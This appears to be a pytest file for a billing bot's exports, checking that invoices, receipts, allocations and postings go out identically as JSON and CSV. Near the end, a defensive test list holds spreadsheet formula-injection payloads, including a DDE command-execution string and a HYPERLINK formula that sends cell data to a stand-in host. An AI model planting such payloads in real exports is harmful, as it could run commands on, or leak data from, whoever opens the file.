"""The books go out the same from both databases, as JSON and as CSV that no spreadsheet runs."""

import csv
import json
from datetime import timedelta
from io import StringIO
from pathlib import Path

import pytest
from sqlalchemy import Engine, insert, select, text, update
from sqlalchemy.orm import Session

from bot.database import transaction
from bot.exports import AMOUNTS, COLUMNS, PARTS, read_unhurried, write_csv, write_json
from bot.imports import import_files
from domain.errors import CustomerUnknown
from domain.extract import LISTS, export
from domain.tables import AllocationRow, ReceiptRow
from handlers.spreadsheets import disarm
from tests import make
from tests.bot.files import DEMO, DEPOSITS, INVOICES, books, bring

AT = "2026-11-20T17:00:00.000000Z"


@pytest.fixture
def history(centre: Engine, tmp_path: Path) -> Engine:
    """C-1 owes 126.00 on two lines, holds an opening deposit of 50.25 and pays 30.00 with it."""
    bring(centre, tmp_path, INVOICES, DEPOSITS)
    with transaction(centre) as session:
        make.staff(session)
        make.pay(session, 3000, credit=5025, customer_id="C-1")
    return centre


def remove_last_allocation(session: Session) -> None:
    """Take the last allocation back on the next day."""
    last = session.scalars(select(AllocationRow).order_by(AllocationRow.id.desc())).first()
    assert last is not None
    copied = {column.key: getattr(last, column.key) for column in AllocationRow.__table__.columns}
    del copied["id"]
    later = {"applied_on": last.applied_on + timedelta(days=1), "removes_id": last.id}
    session.execute(insert(AllocationRow), copied | later)


def test_a_history_goes_out_word_for_word(history: Engine) -> None:
    with transaction(history) as session:
        remove_last_allocation(session)
    told = books(history)
    audit = [(row["action"], row["subject"], row["refused"]) for row in told.pop("audit")]
    assert audit == [
        ("gl_codes.import", "file0.csv", False),
        ("customers.import", "file1.csv", False),
        ("staff.import", "file2.csv", False),
        ("invoices.import", "file0.csv", False),
        ("deposits.import", "file1.csv", False),
        ("payment.record", "R-000002 R-000001", False),
    ]
    nobody = {"owed": "0.00", "available_credit": "0.00", "reserved": "0.00", "expected": "0.00"}
    assert told == {
        "customers": [
            {
                "customer_id": "C-1",
                "name": "Zoé Côté",
                "owed": "45.75",
                "available_credit": "30.00",
                "reserved": "0.00",
                "expected": "45.75",
            },
            {"customer_id": "C-2", "name": "Marie Tremblay", **nobody},
            {"customer_id": "C-3", "name": "Marie Tremblay", **nobody},
        ],
        "invoices": [
            {
                "number": "A-1",
                "customer_id": "C-1",
                "issued_on": "2026-10-01",
                "due_on": "2026-10-31",
                "total": "126.00",
                "due": "75.75",
                "status": "partially_reconciled",
                "lines": [
                    {
                        "position": 1,
                        "description": "Natation",
                        "gl_code": "4010",
                        "amount": "120.00",
                        "due": "69.75",
                    },
                    {
                        "position": 2,
                        "description": "TPS",
                        "gl_code": "2310",
                        "amount": "6.00",
                        "due": "6.00",
                    },
                ],
            }
        ],
        "receipts": [
            {
                "number": "R-000001",
                "kind": "deposit",
                "customer_id": "C-1",
                "method": "cheque",
                "amount": "50.25",
                "rounding": "0.00",
                "unapplied": "0.00",
                "received_on": "2026-10-02",
                "recorded_at": AT,
                "recorded_by": "cli",
                "status": "recorded",
                "reference": "BOURSE-1",
            },
            {
                "number": "R-000002",
                "kind": "payment",
                "customer_id": "C-1",
                "method": "cheque",
                "amount": "30.00",
                "rounding": "0.00",
                "unapplied": "30.00",
                "received_on": "2026-11-20",
                "recorded_at": AT,
                "recorded_by": "U0CASHIER",
                "status": "recorded",
                "reference": "",
            },
        ],
        "credit_memos": [],
        "allocations": [
            {
                "source": "R-000001",
                "invoice": "A-1",
                "position": 1,
                "amount": "50.25",
                "applied_on": "2026-11-20",
                "unapplied_on": None,
            },
            {
                "source": "R-000002",
                "invoice": "A-1",
                "position": 1,
                "amount": "30.00",
                "applied_on": "2026-11-20",
                "unapplied_on": "2026-11-21",
            },
        ],
        "refunds": [],
        "transfers": [],
        "installments": [],
        "failures": [],
        "postings": [
            posting(1, "opening_balances", "account_deposits", "50.25", "R-000001"),
            posting(2, "cash", "account_deposits", "30.00", "R-000002"),
            posting(2, "account_deposits", "revenue:4010", "50.25", "R-000001"),
            posting(2, "account_deposits", "revenue:4010", "30.00", "R-000002"),
        ],
    }


def posting(entry: int, debit: str, credit: str, amount: str, subject: str) -> dict[str, object]:
    return {
        "entry": entry,
        "posted_on": "2026-11-20",
        "debit": debit,
        "credit": credit,
        "amount": amount,
        "subject": subject,
    }


def test_an_invoice_is_reconciled_when_nothing_is_due(history: Engine) -> None:
    with transaction(history) as session:
        make.pay(session, 4575, customer_id="C-1")
    (invoice,) = books(history)["invoices"]
    assert (invoice["due"], invoice["status"]) == ("0.00", "reconciled")


def test_customers_stand_in_one_order_on_both_databases(engine: Engine, tmp_path: Path) -> None:
    numbers = ["é-1", "c-2", "C-10", "C-9", "_x", "Z-1", "1"]
    bring(engine, tmp_path, "customer_id,name,email,phone,locale\n" + people(numbers))
    out = [customer["customer_id"] for customer in books(engine)["customers"]]
    assert out == ["1", "C-10", "C-9", "Z-1", "_x", "c-2", "é-1"]


@pytest.mark.parametrize("status", ["voided", "returned", "failed"])
def test_nothing_is_left_of_money_that_went_back(history: Engine, status: str) -> None:
    with transaction(history) as session:
        number = make.deposit(session, 1000, "C-1")
        assert export(session)["receipts"][-1]["unapplied"] == "10.00"
        session.execute(
            update(ReceiptRow)
            .where(ReceiptRow.id == int(number.removeprefix("R-")))
            .values(status=status)
        )
        assert export(session)["receipts"][-1]["unapplied"] == "0.00"


def test_a_slow_reader_is_not_cut_off(engine: Engine) -> None:
    with read_unhurried(engine) as session:
        if engine.dialect.name == "sqlite":
            assert session.scalar(text("PRAGMA journal_mode")) == "wal"
        else:
            assert session.scalar(text("SHOW idle_in_transaction_session_timeout")) == "0"


def people(numbers: list[str]) -> str:
    return "".join(f"{number},Somebody,,,\n" for number in numbers)


def test_one_customer_goes_out_alone(history: Engine, tmp_path: Path) -> None:
    others = INVOICES.replace("A-1,C-1", "B-1,C-2"), DEPOSITS.replace("C-1", "C-2")
    bring(history, tmp_path, others[0], others[1].replace("BOURSE-1", "BOURSE-2"))
    with transaction(history) as session:
        make.pay(session, 1000, customer_id="C-2")
        alone, everything = export(session, "C-1"), export(session)
    assert [row["action"] for row in alone.pop("audit")] == ["payment.record"]
    for name, items in alone.items():
        foreign = [item for item in everything[name] if item not in items]
        assert [item for item in everything[name] if item in items] == items
        assert bool(foreign) == (name in told_of_two()), name
    assert [item["customer_id"] for item in alone["customers"]] == ["C-1"]


def told_of_two() -> set[str]:
    return {"customers", "invoices", "receipts", "allocations", "postings"}


def test_a_stranger_has_no_export(history: Engine, tmp_path: Path) -> None:
    stream = StringIO()
    with pytest.raises(CustomerUnknown):
        write_json(history, stream, "C-404")
    with pytest.raises(CustomerUnknown):
        write_csv(history, tmp_path / "out", "C-404")
    assert stream.getvalue() == ""
    assert not (tmp_path / "out").exists()


def test_the_stream_holds_the_same_object(engine: Engine) -> None:
    import_files(engine, DEMO, make.stamp("cli"))
    stream = StringIO()
    write_json(engine, stream)
    assert json.loads(stream.getvalue()) == books(engine)
    assert '"name": "Élise Côté"' in stream.getvalue()


def test_every_list_has_its_file_with_the_same_columns(history: Engine, tmp_path: Path) -> None:
    paths = write_csv(history, tmp_path / "deep" / "out")
    assert {path.stem for path in paths} == {*LISTS} | {parts.file for parts in PARTS.values()}
    lists = books(history)
    for path in paths:
        header, *rows = read(path)
        assert tuple(header) == COLUMNS[path.stem]
        expected = {"invoice_lines": 2, "refund_sources": 0}
        assert len(rows) == expected.get(path.stem, len(lists.get(path.stem, [])))
    for name, items in lists.items():
        for item in items:
            assert [key for key in item if key != "lines"] == list(COLUMNS[name])


def test_csv_says_what_json_says(history: Engine, tmp_path: Path) -> None:
    write_csv(history, tmp_path / "out")
    assert read(tmp_path / "out" / "invoice_lines.csv")[1:] == [
        ["A-1", "1", "Natation", "4010", "120.00", "39.75"],
        ["A-1", "2", "TPS", "2310", "6.00", "6.00"],
    ]
    allocation = read(tmp_path / "out" / "allocations.csv")[1]
    assert allocation == ["R-000001", "A-1", "1", "50.25", "2026-11-20", ""]
    assert read(tmp_path / "out" / "audit.csv")[1][1:] == [
        "cli",
        "gl_codes.import",
        "file0.csv",
        "false",
        "",
    ]


def test_an_amount_below_zero_stays_a_number(centre: Engine, tmp_path: Path) -> None:
    bring(centre, tmp_path, DEPOSITS)
    write_csv(centre, tmp_path / "out")
    assert read(tmp_path / "out" / "customers.csv")[1][2:4] == ["-50.25", "50.25"]


PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example/?"&A1,"Facture")',
    "=cmd|'/C calc'!A0",
    "\uff1d1+1",
    "\u3000=1+1",
    "a;=1+1",
    'a;"=1+1',
    "a\n=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_a_formula(centre: Engine, tmp_path: Path, payload: str) -> None:
    cell = payload.replace('"', '""')
    bring(centre, tmp_path, INVOICES.replace("Natation", f'"{cell}"'))
    write_csv(centre, tmp_path / "out")
    path = tmp_path / "out" / "invoice_lines.csv"
    assert read(path)[1][2].replace("'", "") == payload.strip().replace("'", "")
    for separator in ",;\t":
        assert not [cell for row in read(path, separator) for cell in row if is_formula(cell)]
    assert books(centre)["invoices"][0]["lines"] != []


@pytest.mark.parametrize("start", ["\t", "\r", "\n", " \t", " = "])
def test_what_a_spreadsheet_skips_before_a_formula_is_no_cover(start: str) -> None:
    assert disarm(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Zoé Côté", "Café <3 & Cie", "Marie-Ève", "a = b", "", "12-A"])
def test_plain_texts_go_out_as_they_are(text: str) -> None:
    assert disarm(text) == text


def test_amounts_are_columns_of_amounts_only() -> None:
    used = {column for columns in COLUMNS.values() for column in columns}
    assert used >= AMOUNTS


def is_formula(cell: str) -> bool:
    """Tell what a spreadsheet takes for a formula, by its first character that is no space."""
    bare = cell.strip().strip('"').strip()
    return bare[:1] in {*"=+-@\uff1d"} and not bare.replace(".", "").lstrip("-").isdigit()


def read(path: Path, separator: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=separator))
